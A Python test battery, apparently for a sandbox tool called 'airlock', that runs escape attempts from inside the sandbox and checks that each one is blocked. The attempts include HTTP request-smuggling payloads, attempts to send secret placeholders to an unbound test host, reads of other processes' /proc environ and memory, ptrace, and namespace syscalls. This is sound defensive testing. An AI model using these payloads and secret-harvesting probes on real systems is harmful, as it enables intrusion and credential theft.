#!/usr/bin/python3
"""The escape battery: one program that tries each attack from INSIDE
`airlock sandbox-exec` (and, with --outside, runs the positive controls that must be run
on the host as root: the same probe, with harmless arguments, showing that it works there).

    battery.py CONFIG.json            inside: every attack, and the controls done inside
    battery.py --outside CONFIG.json  outside: the controls done outside

One line per case: `NAME RESULT DETAIL`. Inside, RESULT is BLOCKED (the attack failed and,
for a control done inside, the control worked), OPEN (the attack worked: a hole),
or NOCONTROL (the probe could not be shown to work, so "blocked" would prove nothing).
Outside, RESULT is CONTROL and DETAIL starts with what the probe got there; the test
compares it with what it got inside (a seccomp case is shown by a different answer).
Everything an attack received is appended to CONFIG["received"] (a read-write file), so
the test can look for real secret values in all of it without the program knowing them.

Only the standard library: /usr/bin/python3 is on every test machine; raw system calls
go through ctypes.
"""
import base64
import ctypes
import errno
import json
import os
import pty
import signal as signal_mod
import socket
import ssl
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
PH = "openshell:resolve:env:"
CASES = []           # (name, attack, control, where): where is "in" or "out"
# Cases that do not apply in a mode, with why: printed as NA, and the test checks the
# list is exactly what it expects for the mode (none is dropped silently).
NOT_IN = {"full": {}, "userns": {}, "unprivileged": {}}
RECEIVED = None


def case(name, where="in", control=None):
    def add(fn):
        CASES.append((name, fn, control, where))
        return fn
    return add


def received(data):
    """Keeps every byte an attack got, for the test's search for real values."""
    if RECEIVED and data:
        with open(RECEIVED, "ab") as f:
            f.write(data if isinstance(data, bytes) else data.encode("utf-8", "replace"))
            f.write(b"\n")


def err(e):
    return errno.errorcode.get(e.errno, str(e.errno)) if getattr(e, "errno", None) else repr(e)


def sys_call(nr, *args):
    """A raw system call: returns the result or -errno name (a string)."""
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a
                                           for a in args])
    if r == -1:
        return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
    return r


def in_child(fn, timeout=10):
    """Runs fn() in a forked child (so a probe that works changes nothing here);
    returns the string it returned."""
    rd, wr = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(rd)
        try:
            out = str(fn())
        except BaseException as e:  # noqa: BLE001 - the child reports anything
            out = "raised " + repr(e)
        os.write(wr, out.encode()[:4000])
        os._exit(0)
    os.close(wr)
    out = b""
    deadline = time.time() + timeout
    while time.time() < deadline:
        chunk = os.read(rd, 4096)
        if not chunk:
            break
        out += chunk
    os.close(rd)
    os.waitpid(pid, 0)
    return out.decode("utf-8", "replace")


# --- system-call numbers (x86_64) -------------------------------------------------------
NR = dict(ptrace=101, process_vm_readv=310, unshare=272, clone=56, clone3=435,
          io_uring_setup=425, bpf=321, perf_event_open=298, keyctl=250, add_key=248,
          userfaultfd=323, personality=135, mount=165, umount2=166, chroot=161,
          pivot_root=155, kexec_load=246, kexec_file_load=320, init_module=175,
          finit_module=313, delete_module=176, fanotify_init=300, setns=308,
          open_by_handle_at=304, name_to_handle_at=303, mknod=133, setuid=105,
          move_mount=429, fsopen=430, open_tree=428)
# The x32 ABI: the same calls with bit 30 set (ptrace has an x32 number of its own).
X32 = 0x40000000
NR.update(x32_unshare=X32 | 272, x32_keyctl=X32 | 250, x32_ptrace=X32 | 521)
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWPID = 0x20000, 0x10000000, 0x40000000, 0x20000000
SIGCHLD = 17


# A probe's answer must not be the one the sandbox gives: the outside control shows the
# same call reaches the kernel and gets another answer (success or an argument error).
def denied(r):
    return isinstance(r, str) and r in ("EPERM", "EACCES", "ENOSYS")


def syscase(name, nr_name, *args, ok=denied, child=False):
    """A case for one system call that seccomp (or the lack of privilege) must refuse;
    the control is the same call outside, as root."""
    def probe():
        if child:
            return in_child(lambda: sys_call(NR[nr_name], *args))
        return str(sys_call(NR[nr_name], *args))

    def attack():
        r = probe()
        return ok(r), "%s -> %s" % (nr_name, r)

    def control():
        r = probe()
        return not denied(r), "%s -> %s" % (nr_name, r)
    CASES.append((name, attack, control, "out"))


def strs(*words):
    return [ctypes.c_char_p(w.encode()) for w in words]


CFG = {}


def ca_file():
    """The sandbox's CA certificate: /run/airlock/ca.pem in a namespace, a file in the
    private folder in unprivileged mode; NODE_EXTRA_CA_CERTS names it in both."""
    return os.environ.get("NODE_EXTRA_CA_CERTS", "/run/airlock/ca.pem")


def unprivileged():
    return CFG.get("mode") == "unprivileged"


# --- network ------------------------------------------------------------------------------

def tcp(addr, port, family=socket.AF_INET, timeout=3):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect((addr, port))
        s.sendall(b"hello from %s\n" % CFG["where"].encode())
        data = s.recv(100)
        received(data)
        # Every host listener greets first. In unprivileged mode a connect() the policy
        # does not name reaches airlock's proxy instead, which answers with an error.
        if not data.startswith(b"hi from the host"):
            return False, "connected, but not to the host: got %r" % data[:40]
        return True, "connected, got %r" % data[:40]
    except OSError as e:
        return False, err(e)
    finally:
        s.close()


def udp(addr, port, family=socket.AF_INET, payload=None):
    try:
        s = socket.socket(family, socket.SOCK_DGRAM)
    except OSError as e:
        return False, "socket: " + err(e)
    s.settimeout(2)
    try:
        s.sendto(payload or b"udp from %s" % CFG["where"].encode(), (addr, port))
        data = s.recv(512)
        received(data)
        return True, "answered %r" % data[:40]
    except OSError as e:
        return False, err(e)
    finally:
        s.close()


def netcase(name, fn):
    """A network probe: blocked when it fails inside; the control is the same outside."""
    def attack():
        ok, detail = fn()
        return not ok, detail

    def control():
        ok, detail = fn()
        return ok, detail
    CASES.append((name, attack, control, "out"))


netcase("tcp-loopback-port-not-forwarded", lambda: tcp("127.0.0.1", CFG["tcp_port"]))
netcase("udp-loopback-port", lambda: udp("127.0.0.1", CFG["udp_port"]))
netcase("tcp-host-address", lambda: tcp(CFG["host_ip"], CFG["tcp_any_port"]))
netcase("udp-host-address", lambda: udp(CFG["host_ip"], CFG["udp_any_port"]))
netcase("tcp-ipv6-loopback", lambda: tcp("::1", CFG["tcp6_port"], socket.AF_INET6))
netcase("udp-ipv6-loopback", lambda: udp("::1", CFG["udp6_port"], socket.AF_INET6))


def dns_query(name="example.com"):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", 1, 1)


netcase("dns-query-udp-to-resolver",
        lambda: udp("127.0.0.1", CFG["dns_port"], payload=dns_query()))


def dns_tcp():
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect(("127.0.0.1", CFG["dns_port"]))
        q = dns_query()
        s.sendall(struct.pack(">H", len(q)) + q)
        data = s.recv(512)
        received(data)
        if not data.startswith(b"hi from the host"):
            return False, "connected, but not to the host: got %r" % data[:40]
        return True, "answered %d bytes" % len(data)
    except OSError as e:
        return False, err(e)
    finally:
        s.close()


netcase("dns-query-tcp-to-resolver", dns_tcp)


@case("dns-lookup-of-a-name", control=lambda: (socket.getaddrinfo("localhost", 80) != [],
                                               "localhost from /etc/hosts resolves"))
def _():
    try:
        r = socket.getaddrinfo("example.com", 443)
        return False, "resolved %r" % (r[:1],)
    except socket.gaierror as e:
        return True, "getaddrinfo: %s" % e


def sock(family, stype, proto=0):
    try:
        s = socket.socket(family, stype, proto)
        s.close()
        return True, "socket made"
    except OSError as e:
        return False, err(e)


netcase("raw-ip-socket", lambda: sock(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
netcase("raw-ipv6-socket", lambda: sock(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
netcase("packet-socket", lambda: sock(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))
netcase("netlink-sock-diag-socket", lambda: sock(socket.AF_NETLINK, socket.SOCK_RAW, 4))


def host_interfaces():
    """Route netlink is allowed (getifaddrs): it must show nothing but the sandbox's lo."""
    try:
        names = sorted(n for _, n in socket.if_nameindex())
    except OSError as e:
        return False, err(e)
    return names != ["lo"], "interfaces: " + " ".join(names)


netcase("netlink-route-shows-host-interfaces", host_interfaces)
# Without a network namespace route netlink shows the host's interfaces (a limit the
# README states); that it can change nothing is checked in every mode.
NOT_IN["unprivileged"]["netlink-route-shows-host-interfaces"] = \
    "no network namespace: the host's interfaces are visible (README: limits)"


def add_loopback_address():
    """RTM_NEWADDR 127.0.0.1/8 on lo with NLM_F_EXCL: root outside gets EEXIST (the
    kernel looked at the request), a process without CAP_NET_ADMIN gets EPERM."""
    try:
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    except OSError as e:
        return False, "socket: " + err(e)
    try:
        s.settimeout(3)
        lo = socket.if_nametoindex("lo")
        attr = struct.pack("=HH4s", 8, 2, socket.inet_aton("127.0.0.1"))  # IFA_LOCAL
        ifa = struct.pack("=BBBBI", socket.AF_INET, 8, 0, 0, lo)
        body = ifa + attr
        # RTM_NEWADDR 20; NLM_F_REQUEST|NLM_F_ACK|NLM_F_EXCL|NLM_F_CREATE
        msg = struct.pack("=IHHII", 16 + len(body), 20, 0x1 | 0x4 | 0x200 | 0x400, 1, 0) + body
        s.send(msg)
        reply = s.recv(256)
        code = -struct.unpack_from("=i", reply, 16)[0]
        name = errno.errorcode.get(code, str(code))
        return code != errno.EPERM, "RTM_NEWADDR -> %s" % name
    except OSError as e:
        return False, err(e)
    finally:
        s.close()


netcase("netlink-route-change-refused", add_loopback_address)
netcase("netlink-uevent-socket", lambda: sock(socket.AF_NETLINK, socket.SOCK_DGRAM, 15))
netcase("alg-socket", lambda: sock(38, socket.SOCK_SEQPACKET, 0))


def unix(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(path)
        data = s.recv(100)
        received(data)
        return True, "connected, got %r" % data[:40]
    except OSError as e:
        return False, err(e)
    finally:
        s.close()


netcase("abstract-unix-socket-of-host", lambda: unix("\0" + CFG["abstract"]))
netcase("unix-socket-in-host-tmp", lambda: unix(CFG["unix_tmp"]))
netcase("unix-socket-in-host-run", lambda: unix(CFG["unix_run"]))
netcase("unix-socket-in-host-var-tmp", lambda: unix(CFG["unix_var_tmp"]))


def own_socket_in_workspace():
    """The control: a socket the sandbox makes in its read-write folder, served by a
    child, is reachable (only host processes' sockets there are closed)."""
    path = os.path.join(CFG["rw"], "own-%d.sock" % os.getpid())
    try:
        l = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        l.bind(path)
        l.listen(1)
        pid = os.fork()
        if pid == 0:
            c, _ = l.accept()
            c.sendall(b"own socket\n")
            os._exit(0)
        l.close()
        ok, detail = unix(path)
        os.waitpid(pid, 0)
        return ok, "own socket in the workspace: " + detail
    except OSError as e:
        return False, "own socket in the workspace: " + err(e)
    finally:
        if os.path.exists(path):
            os.unlink(path)


@case("unix-socket-of-host-in-the-workspace", control=own_socket_in_workspace)
def _():
    ok, detail = unix(CFG["unix_work"])
    return not ok, detail




# --- the proxy --------------------------------------------------------------------------

PROXY = ("127.0.0.1", 3128)


def proxy_connect(target, extra=""):
    """CONNECT target through the proxy: (status, socket or None, head)."""
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (target, target, extra)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        c = s.recv(4096)
        if not c:
            break
        head += c
    received(head)
    status = int(head.split(b" ")[1]) if head.startswith(b"HTTP/") else 0
    if status != 200:
        s.close()
        return status, None, head
    return status, s, head


def tls_to(host, port=443, sni=None):
    status, s, head = proxy_connect("%s:%d" % (host, port))
    if status != 200:
        raise OSError("CONNECT %s: %s" % (host, head[:80]))
    ctx = ssl.create_default_context(cafile=ca_file())
    ctx.check_hostname = False
    return ctx.wrap_socket(s, server_hostname=sni or host)


def read_all(s, limit=1 << 16):
    out = b""
    try:
        while len(out) < limit:
            c = s.recv(65536)
            if not c:
                break
            out += c
    except (OSError, ssl.SSLError):
        pass
    received(out)
    return out


def exchange(raw, host="api.example.test"):
    """Sends raw bytes inside a TLS tunnel to host; returns what came back (the
    connection is closed after 'Connection: close' or by the proxy)."""
    t = tls_to(host)
    t.settimeout(8)
    t.sendall(raw)
    return read_all(t)


def status_of(resp):
    try:
        return int(resp.split(b" ", 2)[1])
    except (IndexError, ValueError):
        return 0


def good_request(host="api.example.test", path="/echo"):
    return ("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, host)).encode()


def control_api_ok():
    r = exchange(good_request())
    return status_of(r) == 200, "CONNECT api.example.test + GET /echo -> %d" % status_of(r)


def control_injected():
    r = exchange(("GET /echo HTTP/1.1\r\nHost: api.example.test\r\nAuthorization: Bearer "
                  "%sTOKEN\r\nConnection: close\r\n\r\n" % PH).encode())
    ok = status_of(r) == 200 and b"<REAL:TOKEN>" in r
    return ok, "placeholder to its bound host is injected (%d)" % status_of(r)


def connect_refused(target):
    def attack():
        status, s, head = proxy_connect(target)
        if s:
            s.close()
        return status == 403, "CONNECT %s -> %d %s" % (target, status, deny_reason(head))
    return attack


def deny_reason(head):
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"x-airlock-deny:"):
            return line.split(b":", 1)[1].strip().decode("utf-8", "replace")
    return ""


def connect_ok():
    status, s, _ = proxy_connect("api.example.test:443")
    if s:
        s.close()
    return status == 200, "CONNECT api.example.test:443 -> %d" % status


case("proxy-connect-ip-literal", control=connect_ok)(
    lambda: connect_refused("127.0.0.1:%d" % CFG["api_port"])())
case("proxy-connect-ipv6-literal", control=connect_ok)(
    lambda: connect_refused("[::1]:%d" % CFG["api_port"])())
case("proxy-connect-localhost", control=connect_ok)(
    lambda: connect_refused("localhost:%d" % CFG["api_port"])())
case("proxy-connect-denied-name", control=connect_ok)(
    lambda: connect_refused("denied.example.test:443")())
case("proxy-connect-allowed-name-other-port", control=connect_ok)(
    lambda: connect_refused("api.example.test:%d" % CFG["api_port"])())


@case("proxy-absolute-http-to-denied-name", control=connect_ok)
def _():
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(b"GET http://denied.example.test/ HTTP/1.1\r\nHost: denied.example.test\r\n"
              b"Connection: close\r\n\r\n")
    r = read_all(s)
    s.close()
    return status_of(r) == 403, "GET http://denied.example.test/ -> %d" % status_of(r)


@case("proxy-host-header-names-another-host", control=control_api_ok)
def _():
    r = exchange(good_request(host="other.example.test"))
    return status_of(r) == 403, "Host: other.example.test in api tunnel -> %d" % status_of(r)


@case("proxy-sni-names-another-host", control=control_api_ok)
def _():
    try:
        t = tls_to("api.example.test", sni="other.example.test")
        t.sendall(good_request(host="other.example.test"))
        r = read_all(t)
        return status_of(r) not in range(200, 300), "handshake done, answer %d" % status_of(r)
    except (OSError, ssl.SSLError) as e:
        return True, "handshake refused: %s" % str(e)[:80]


SMUGGLED = ("GET /smuggled HTTP/1.1\r\nHost: other.example.test\r\nX-K: %sTOKEN\r\n\r\n" % PH)


def smuggle(head_lines, body):
    head = "POST /first HTTP/1.1\r\nHost: api.example.test\r\n" + head_lines
    return (head + "\r\n" + body).encode()


def smuggle_case(name, raw):
    """A request framed so that a second request could hide in it; blocked when the
    proxy refuses it (4xx) or the upstream saw one request only and nothing hidden
    (the test checks the recorder for /smuggled)."""
    def attack():
        r = exchange(raw)
        st = status_of(r)
        return (400 <= st < 500 or st == 0) and b"/smuggled" not in r, \
            "-> %d %s" % (st, r.split(b"\r\n", 1)[0][:60].decode("latin-1"))
    CASES.append((name, attack, control_api_ok, "in"))


n = len(SMUGGLED)
chunked = "%x\r\n%s\r\n0\r\n\r\n" % (n, SMUGGLED)
smuggle_case("smuggle-content-length-and-transfer-encoding",
             smuggle("Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", chunked))
smuggle_case("smuggle-two-content-lengths",
             smuggle("Content-Length: 0\r\nContent-Length: %d\r\n" % n, SMUGGLED))
smuggle_case("smuggle-obs-fold-transfer-encoding",
             smuggle("Content-Length: %d\r\nX-A: b\r\n Transfer-Encoding: chunked\r\n" % len(chunked),
                     chunked))
smuggle_case("smuggle-bare-lf-in-head",
             ("POST /first HTTP/1.1\r\nHost: api.example.test\nContent-Length: 0\r\n"
              "Transfer-Encoding: chunked\r\n\r\n" + chunked).encode())
smuggle_case("smuggle-space-before-colon",
             smuggle("Content-Length: %d\r\nTransfer-Encoding : chunked\r\n" % n, SMUGGLED))
smuggle_case("smuggle-transfer-encoding-not-chunked-last",
             smuggle("Transfer-Encoding: chunked, identity\r\n", chunked))
smuggle_case("smuggle-chunk-size-overflow",
             smuggle("Transfer-Encoding: chunked\r\n",
                     "10000000000000001\r\n" + SMUGGLED + "\r\n0\r\n\r\n"))
smuggle_case("smuggle-connection-names-content-length",
             smuggle("Connection: Content-Length\r\nContent-Length: %d\r\n" % n, SMUGGLED))


@case("smuggle-pipelined-second-request-to-another-host", control=control_api_ok)
def _():
    r = exchange(good_request().replace(b"Connection: close\r\n", b"") + SMUGGLED.encode())
    second = r.split(b"HTTP/1.1 ")[2:3]
    st = int(second[0][:3]) if second else 0
    return st in (0, 400, 403), "second pipelined request -> %s" % (st or "closed")


@case("keepalive-second-request-to-another-host", control=control_api_ok)
def _():
    t = tls_to("api.example.test")
    t.settimeout(8)
    t.sendall(b"GET /echo HTTP/1.1\r\nHost: api.example.test\r\n\r\n")
    first = t.recv(65536)
    received(first)
    t.sendall(SMUGGLED.encode())
    second = read_all(t)
    return status_of(first) == 200 and status_of(second) in (0, 400, 403), \
        "first %d, second -> %d" % (status_of(first), status_of(second))


def unbound(name, raw, host="other.example.test"):
    """A placeholder sent to a host the secret is not bound to: refused (403), and the
    origin never gets a real value (the test checks its records)."""
    def attack():
        r = exchange(raw, host)
        st = status_of(r)
        return st == 403 and b"<REAL:" not in r, "-> %d %s" % (st, deny_reason(r))
    CASES.append((name, attack, control_injected, "in"))


def other_req(target="/echo", headers=""):
    return ("GET %s HTTP/1.1\r\nHost: other.example.test\r\n%sConnection: close\r\n\r\n"
            % (target, headers)).encode()


unbound("placeholder-to-unbound-host-in-target", other_req("/echo?k=%sTOKEN" % PH))
unbound("placeholder-to-unbound-host-in-header",
        other_req(headers="Authorization: Bearer %sTOKEN\r\n" % PH))
unbound("placeholder-to-unbound-host-in-cookie", other_req(headers="Cookie: s=%sTOKEN\r\n" % PH))
unbound("placeholder-to-unbound-host-in-basic",
        other_req(headers="Authorization: Basic %s\r\n"
                  % base64.b64encode(("x:%sTOKEN" % PH).encode()).decode()))
unbound("placeholder-to-unbound-host-percent-encoded",
        other_req("/echo?k=" + "".join("%%%02X" % b for b in (PH + "TOKEN").encode())))
unbound("placeholder-undefined-secret", (
    "GET /echo HTTP/1.1\r\nHost: api.example.test\r\nX-K: %sNOPE\r\nConnection: close\r\n\r\n"
    % PH).encode(), host="api.example.test")


def forwarded_not_injected(name, raw):
    """Forms the proxy may pass on as text: blocked when what the origin echoes holds
    no real value (the echo masks real values as <REAL:NAME>)."""
    def attack():
        r = exchange(raw, "other.example.test")
        return b"<REAL:" not in r, "-> %d, %s" % (
            status_of(r), "no real value echoed" if b"<REAL:" not in r else "REAL VALUE ECHOED")
    CASES.append((name, attack, control_injected, "in"))


forwarded_not_injected("placeholder-to-unbound-host-double-encoded",
                       other_req("/echo?k=openshell%253Aresolve%253Aenv%253ATOKEN"))
body = "k=%sTOKEN" % PH
forwarded_not_injected("placeholder-to-unbound-host-in-body", (
    "POST /echo HTTP/1.1\r\nHost: other.example.test\r\nContent-Length: %d\r\n"
    "Connection: close\r\n\r\n%s" % (len(body), body)).encode())


@case("placeholder-in-proxy-authorization-of-connect", control=connect_ok)
def _():
    status, s, head = proxy_connect("other.example.test:443",
                                    "Proxy-Authorization: Basic %s\r\n"
                                    % base64.b64encode(("u:%sTOKEN" % PH).encode()).decode())
    if s:
        s.close()
    return status == 403, "-> %d %s" % (status, deny_reason(head))


@case("bound-host-echoing-the-secret-in-its-head", control=control_injected)
def _():
    r = exchange(("GET /echo-auth HTTP/1.1\r\nHost: api.example.test\r\nAuthorization: Bearer "
                  "%sTOKEN\r\nConnection: close\r\n\r\n" % PH).encode())
    return status_of(r) == 200 and (PH + "TOKEN").encode() in r, \
        "-> %d, head gives the placeholder back" % status_of(r)


def dechunk(resp):
    """The body of a chunked response (as far as it goes)."""
    body = resp.split(b"\r\n\r\n", 1)[1] if b"\r\n\r\n" in resp else b""
    out = b""
    while body:
        line, _, rest = body.partition(b"\r\n")
        try:
            n = int(line.split(b";")[0], 16)
        except ValueError:
            break
        if n == 0:
            break
        out += rest[:n]
        body = rest[n + 2:]
    return out


def echoed_back(mode):
    """A bound host that hands the token it got back in its body (?mode=length: in
    two TLS records cut inside it; sse: an event stream, cut across events)."""
    r = exchange(("GET /echo-raw?mode=%s HTTP/1.1\r\nHost: api.example.test\r\n"
                  "Authorization: Bearer %sTOKEN\r\nConnection: close\r\n\r\n"
                  % (mode, PH)).encode())
    body = dechunk(r) if b"chunked" in r.split(b"\r\n\r\n", 1)[0].lower() else \
        r.split(b"\r\n\r\n", 1)[-1]
    return status_of(r) == 200 and (PH + "TOKEN").encode() in body, \
        "-> %d, the body gives %s back" % (
            status_of(r), "the placeholder" if (PH + "TOKEN").encode() in body else repr(body[:60]))


CASES.append(("bound-host-echoing-the-secret-in-its-body",
              lambda: echoed_back("length"), control_injected, "in"))
CASES.append(("bound-host-echoing-the-secret-in-an-sse-stream",
              lambda: echoed_back("sse"), control_injected, "in"))


def ws_frame(payload):
    """One masked text frame (a client's)."""
    mask = os.urandom(4)
    head = bytes([0x81, 0x80 | len(payload)]) + mask
    return head + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))


def ws_echo(host, payload):
    """Opens a WebSocket to host's /ws echo through the proxy, sends one frame and
    returns the payload of the frame that comes back (None without a 101)."""
    t = tls_to(host)
    t.settimeout(8)
    t.sendall(("GET /ws HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: "
               "Upgrade\r\nSec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n"
               % (host, base64.b64encode(os.urandom(16)).decode())).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        c = t.recv(4096)
        if not c:
            break
        head += c
    if b" 101 " not in head.split(b"\r\n", 1)[0] + b" ":
        t.close()
        return None
    rest = head.split(b"\r\n\r\n", 1)[1]
    t.sendall(ws_frame(payload))
    while len(rest) < 2 or len(rest) < 2 + (rest[1] & 0x7f):
        c = t.recv(4096)
        if not c:
            break
        rest += c
    t.close()
    received(rest)
    return rest[2:2 + (rest[1] & 0x7f)] if len(rest) >= 2 else b""


@case("placeholder-in-a-websocket-frame-to-an-unbound-host",
      control=lambda: (lambda e: (e == b"hello", "a frame is echoed: %r" % e))(
          ws_echo("other.example.test", b"hello")))
def _():
    got = ws_echo("other.example.test", (PH + "TOKEN").encode())
    return got == (PH + "TOKEN").encode(), "the frame arrived as %r" % (got[:40] if got else got)


@case("huge-request-head", control=control_api_ok)
def _():
    r = exchange(("GET /echo HTTP/1.1\r\nHost: api.example.test\r\nX-Big: %s\r\n"
                  "Connection: close\r\n\r\n" % ("a" * 40000)).encode())
    ok, detail = control_api_ok()
    return status_of(r) in (0, 400, 431) and ok, "-> %d; proxy afterwards: %s" % (
        status_of(r), detail)


# --- processes -------------------------------------------------------------------------

def sleeper():
    pid = os.fork()
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    return pid


def reap(pid):
    os.kill(pid, 9)
    os.waitpid(pid, 0)


def ptrace_attach():
    pid = sleeper()
    try:
        return str(sys_call(NR["ptrace"], 16, pid, 0, 0))  # PTRACE_ATTACH
    finally:
        reap(pid)


CASES.append(("ptrace-attach", lambda: (denied(ptrace_attach()), "PTRACE_ATTACH -> %s"
                                        % ptrace_attach()), lambda: (lambda r: (not denied(r), r))(ptrace_attach()), "out"))
syscase("ptrace-traceme", "ptrace", 0, 0, 0, 0, child=True)


def vm_readv():
    pid = sleeper()
    try:
        buf = ctypes.create_string_buffer(16)
        src = ctypes.create_string_buffer(b"x" * 16)
        local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 16)
        remote = (ctypes.c_void_p * 2)(ctypes.addressof(src), 16)
        return str(sys_call(NR["process_vm_readv"], pid, local, 1, remote, 1, 0))
    finally:
        reap(pid)


CASES.append(("process-vm-readv", lambda: (denied(vm_readv()), "-> %s" % vm_readv()),
              lambda: (lambda r: (not denied(r), r))(vm_readv()), "out"))


def pids():
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())


def read_proc(pid, what):
    try:
        with open("/proc/%d/%s" % (pid, what), "rb") as f:
            data = f.read(1 << 16)
        received(data)
        return True, len(data)
    except OSError as e:
        return False, err(e)


@case("proc-environ-of-every-visible-process",
      control=lambda: (read_proc(os.getpid(), "environ")[0], "own environ readable"))
def _():
    res = {p: read_proc(p, "environ") for p in pids() if p != os.getpid()}
    # Readable ones went to the received file: the test looks there for real values.
    return True, "pids %s: %s (contents checked by the test)" % (
        pids(), {p: r[1] for p, r in res.items()})


def mem_of(pid):
    try:
        fd = os.open("/proc/%d/mem" % pid, os.O_RDONLY)
    except OSError as e:
        return False, err(e)
    try:
        with open("/proc/%d/maps" % pid) as f:
            start = int(f.readline().split("-")[0], 16)
        data = os.pread(fd, 64, start)
        received(data)
        return True, "read %d bytes" % len(data)
    except (OSError, ValueError) as e:
        return False, err(e)
    finally:
        os.close(fd)


@case("proc-mem-of-every-other-visible-process",
      control=lambda: mem_of(os.getpid()))
def _():
    # Our own descendants are ours to read; anything else (PID 1, the reaper, the
    # supervisor and every host process where they are visible) must not be.
    ours = descendants()
    others = {p: mem_of(p) for p in pids() if p not in ours}
    opened = {p: r for p, r in others.items() if r[0]}
    return not opened and 1 in others, "%d other processes, none read (pid 1: %s); %s" % (
        len(others), others.get(1), opened)


def descendants():
    """This process and every process below it."""
    parent = {}
    for p in pids():
        try:
            with open("/proc/%d/stat" % p) as f:
                parent[p] = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            pass
    ours = {os.getpid()}
    grew = True
    while grew:
        grew = False
        for p, pp in parent.items():
            if pp in ours and p not in ours:
                ours.add(p)
                grew = True
    return ours


def cmdlines():
    names = {}
    for p in pids():
        try:
            with open("/proc/%d/cmdline" % p, "rb") as f:
                names[p] = f.read().replace(b"\0", b" ").decode("utf-8", "replace")[:60]
        except OSError:
            pass
    return names


@case("supervisor-not-visible", where="in",
      control=lambda: (len(pids()) >= 1, "/proc lists %s" % pids()))
def _():
    names = []
    for p in pids():
        try:
            with open("/proc/%d/cmdline" % p, "rb") as f:
                names.append(f.read().replace(b"\0", b" ").decode("utf-8", "replace")[:60])
        except OSError:
            pass
    received("\n".join(names))
    return not any("sandbox-exec" in n for n in names) and CFG["host_pid"] not in pids(), \
        "cmdlines %s" % names


@case("cmdline-of-every-visible-process",
      control=lambda: (bool(cmdlines().get(os.getpid())), "own cmdline readable"))
def _():
    # The runner puts MCP configs with their secrets on the CLI's argv, that is on
    # sandbox-exec's: whatever command lines are visible go to the received file, where
    # the test looks for the real values.
    full = {}
    for p in pids():
        try:
            with open("/proc/%d/cmdline" % p, "rb") as f:
                full[p] = f.read(1 << 16)
        except OSError:
            pass
    received(b"\n".join(full.values()))
    return True, "%d command lines read (contents checked by the test)" % len(full)


NOT_IN["unprivileged"]["supervisor-not-visible"] = \
    "no pid namespace: supervisor-environ-and-memory-closed instead"


def supervisors():
    return [p for p, n in cmdlines().items() if "sandbox-exec" in n]


@case("supervisor-environ-and-memory-closed", where="in",
      control=lambda: (bool(supervisors()) and read_proc(os.getpid(), "environ")[0],
                       "sees the supervisor's processes %s; own environ readable"
                       % supervisors()))
def _():
    open_ = {}
    for p in supervisors():
        for what, r in (("environ", read_proc(p, "environ")), ("mem", mem_of(p))):
            if r[0]:
                open_["%d/%s" % (p, what)] = r[1]
    return not open_, "supervisor processes %s; opened: %s" % (supervisors(), open_)


for mode in ("full", "userns"):
    NOT_IN[mode]["supervisor-environ-and-memory-closed"] = \
        "the supervisor is in another pid namespace (supervisor-not-visible)"


def kill_host(sig):
    try:
        os.kill(CFG["host_pid"], sig)
        return True, "signal %d delivered to pid %d" % (sig, CFG["host_pid"])
    except OSError as e:
        return False, err(e)


netcase("signal-a-host-process", lambda: kill_host(0))
CASES.append(("kill-a-host-process", lambda: (not kill_host(15)[0], kill_host(15)[1]),
              lambda: kill_host(0), "out"))

syscase("unshare-user-namespace", "unshare", CLONE_NEWUSER, child=True)
syscase("unshare-network-namespace", "unshare", CLONE_NEWNET, child=True)
syscase("unshare-mount-namespace", "unshare", CLONE_NEWNS, child=True)


def clone_flags(flags):
    def run():
        r = sys_call(NR["clone"], flags | SIGCHLD, 0, 0, 0, 0)
        if r == 0:
            os._exit(0)
        if isinstance(r, int):
            os.waitpid(r, 0)
            return "child %d" % r
        return r
    return run


for nm, fl in (("user", CLONE_NEWUSER), ("net", CLONE_NEWNET), ("pid", CLONE_NEWPID)):
    fn = clone_flags(fl)
    CASES.append(("clone-new-%s-namespace" % nm,
                  (lambda fn=fn: (lambda r: (denied(r), "clone -> %s" % r))(in_child(fn))),
                  (lambda fn=fn: (lambda r: (not denied(r), r))(in_child(fn))), "out"))

# clone3 with a too-small size: the kernel answers EINVAL, the filter ENOSYS first.
syscase("clone3", "clone3", ctypes.create_string_buffer(64), 8)
syscase("io-uring-setup", "io_uring_setup", 1, ctypes.create_string_buffer(120))
syscase("bpf-map-create", "bpf", 0, ctypes.create_string_buffer(128), 128)
syscase("perf-event-open", "perf_event_open", ctypes.create_string_buffer(128), 0, -1, -1, 0)
